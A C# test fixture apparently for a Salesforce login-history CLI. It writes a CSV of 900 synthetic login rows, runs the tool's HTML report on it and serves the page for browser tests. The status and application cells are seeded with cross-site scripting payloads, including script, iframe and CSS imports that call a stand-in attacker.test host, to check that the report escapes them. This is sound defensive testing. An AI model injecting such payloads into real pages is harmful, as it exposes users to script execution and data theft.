using SfOAuth.Cli;

namespace SfOAuth.Browser.Tests;

/// <summary>A history of login rows, hostile cells among them, and the page that is made of it.</summary>
public sealed class HistoryPage : IDisposable
{
    private const string Header = "\"Username\",\"Login Time\",\"Source IP\",\"Login Type\",\"Status\",\"Application\",\"Login URL\"\n";
    private static readonly string[] Hostile =
        ["</script><script>fetch('https://attacker.test/')</script>", "<img src=https://attacker.test/x onerror=alert(1)>", "<svg onload=alert(2)>", "javascript:alert(3)", "\"><iframe src=https://attacker.test>", "</style><style>@import 'https://attacker.test'", "&lt;b&gt;", "]]>--></title>"];

    private readonly string folder = Directory.CreateTempSubdirectory("sfoauth-").FullName;

    public HistoryPage()
    {
        File.WriteAllText(Path.Combine(folder, "log.csv"), Header + string.Concat(Enumerable.Range(0, 900).Select(Row)));
        using var page = new StringWriter { NewLine = "\n" };
        using var errors = new StringWriter();
        var code = Program.RunAsync(["history", Path.Combine(folder, "log.csv"), "--format", "html"], new Terminal(page, errors)).GetAwaiter().GetResult();
        Assert.True(code == 0, errors.ToString());
        File.WriteAllText(Path.Combine(folder, "log.html"), page.ToString());
    }

    public string Url => new Uri(Path.Combine(folder, "log.html")).AbsoluteUri;

    public void Dispose() => Directory.Delete(folder, recursive: true);

    // Every twenty minutes from 10 November on; from the 20th one app is refused.
    private static string Row(int number)
    {
        var time = new DateTimeOffset(2026, 11, 10, 0, 0, 0, TimeSpan.Zero).AddMinutes(20 * number);
        var status = number % 90 == 7 ? Hostile[number / 90 % Hostile.Length] : time.Day >= 20 && number % 3 == 0 ? "Restricted IP" : "Success";
        var app = number % 3 == 0 ? "Acme Sync" : Hostile[number % Hostile.Length];
        string[] cells = [$"user{number % 9}@acme.example", $"{time:yyyy-MM-ddTHH:mm:ssZ}", $"203.0.113.{number % 40}", "Remote Access 2.0", status, app, "acme.my.salesforce.com"];
        return string.Join(',', cells.Select(cell => $"\"{cell.Replace("\"", "\"\"", StringComparison.Ordinal)}\"")) + "\n";
    }
}
